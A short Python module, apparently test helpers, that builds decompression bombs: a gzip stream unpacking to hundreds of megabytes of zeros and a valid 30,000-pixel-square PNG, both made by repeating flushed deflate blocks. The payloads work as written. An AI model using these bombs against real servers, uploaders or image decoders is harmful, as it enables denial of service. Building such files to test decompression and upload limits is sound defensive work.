"""Small files that unpack to very large ones, put together without ever holding the large one."""

import struct
import zlib
from functools import cache

_PIECE_BYTES = 1_048_576
_ZERO_PIECE = bytes(_PIECE_BYTES)


@cache
def gzip_bomb(megabytes: int = 300) -> bytes:
    """A gzip stream of that many megabytes of zeros."""
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(_ZERO_PIECE, check)
    size = megabytes * _PIECE_BYTES
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + _deflated_zeros(size) + struct.pack("<II", check, size)


@cache
def picture_bomb(side_px: int = 30_000) -> bytes:
    """A sound PNG, black and white, of ``side_px`` by ``side_px``."""
    header = struct.pack(">IIBBBBB", side_px, side_px, 1, 0, 0, 0, 0)
    size = (-(-side_px // 8) + 1) * side_px
    rows = b"\x78\x01" + _deflated_zeros(size) + struct.pack(">HH", size % 65_521, 1)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _deflated_zeros(size: int) -> bytes:
    """A full flush ends each piece, so a piece may be repeated as it is."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(_ZERO_PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(size % _PIECE_BYTES)) + packer.flush(zlib.Z_FINISH)
    return piece * (size // _PIECE_BYTES) + rest


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
